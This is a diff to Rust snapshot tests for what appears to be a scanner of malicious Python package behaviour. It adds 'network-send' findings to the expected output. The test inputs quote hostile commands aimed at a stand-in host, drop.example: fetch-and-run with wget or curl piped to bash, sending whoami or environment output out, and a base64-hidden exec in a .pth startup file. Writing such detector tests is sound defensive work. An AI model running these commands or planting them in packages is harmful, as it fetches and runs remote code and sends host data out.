@@ -134,6 +134,7 @@ fn a_pipeline_is_run_on_import() {
         os.system('wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n",
     );
     insta::assert_snapshot!(lines(&analysis), @r#"
+    network-send pkg/__init__.py os.system(wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x) <-  [Import 0]
     process pkg/__init__.py os.system(wget https://drop.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x) <- network [Import 0]
     "#);
 }
@@ -150,6 +151,7 @@ fn start_up_lines_start_a_program_that_decodes() {
     insta::assert_snapshot!(lines(&analysis), @r#"
     process litellm_init.pth subprocess.Popen([sys.executable, -c, import base64; exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M7IHN1YnByb2Nlc3MucnVuKFsnY3VybCcsICdodHRwczovL2Ryb3AuZXhhbXBsZSddKQ=='))]) <-  [Import 0]
     execute litellm_init.pth exec(import subprocess; subprocess.run(['curl', 'https://drop.example'])) <- decoded [Import 1]
+    network-send litellm_init.pth subprocess.run([curl, https://drop.example]) <-  [Import 2]
     process litellm_init.pth subprocess.run([curl, https://drop.example]) <-  [Import 2]
     "#);
     assert_eq!(analysis.layers.last().unwrap().text, code);
@@ -496,11 +498,14 @@ fn commands_that_fetch_and_run_or_tell_are_paths_by_themselves() {
          subprocess.run(['git', 'status'])\nos.system('curl -O https://data.example/x.csv')\n",
     );
     insta::assert_snapshot!(lines(&analysis), @r#"
+    network-send pkg/__init__.py os.system(curl -s https://drop.example/a | bash) <-  [Import 0]
     process pkg/__init__.py os.system(curl -s https://drop.example/a | bash) <- network [Import 0]
+    network-send pkg/__init__.py os.system(curl https://drop.example/…$(whoami)) <- host-identity [Import 0]
     process pkg/__init__.py os.system(curl https://drop.example/$(whoami)) <- host-identity [Import 0]
     process pkg/__init__.py subprocess.run([env], stdout=subprocess.PIPE) <-  [Import 0]
     network-send pkg/__init__.py requests.post(https://drop.example, data=subprocess.run().stdout.decode()) <- bulk-environment [Import 0]
     process pkg/__init__.py subprocess.run([git, status]) <-  [Import 0]
+    network-send pkg/__init__.py os.system(curl -O https://data.example/x.csv) <-  [Import 0]
     process pkg/__init__.py os.system(curl -O https://data.example/x.csv) <-  [Import 0]
     "#);
 }
@@ -532,6 +537,7 @@ fn what_is_written_out_and_run_is_read() {
     insta::assert_snapshot!(lines(&analysis), @r#"
     process pkg/__init__.py subprocess.Popen([sys.executable, $APPDATA/g.py]) <-  [Import 0]
     write-then-run pkg/__init__.py subprocess.Popen([sys.executable, $APPDATA/g.py]) <-  [Import 0]
+    network-send pkg/__init__.py subprocess.run([curl, https://drop.example/x, -o, /tmp/xx.bin]) <-  [Import 0]
     process pkg/__init__.py subprocess.run([curl, https://drop.example/x, -o, /tmp/xx.bin]) <-  [Import 0]
     process pkg/__init__.py subprocess.call([/tmp/xx.bin]) <-  [Import 0]
     write-then-run pkg/__init__.py subprocess.call([/tmp/xx.bin]) <- network [Import 0]
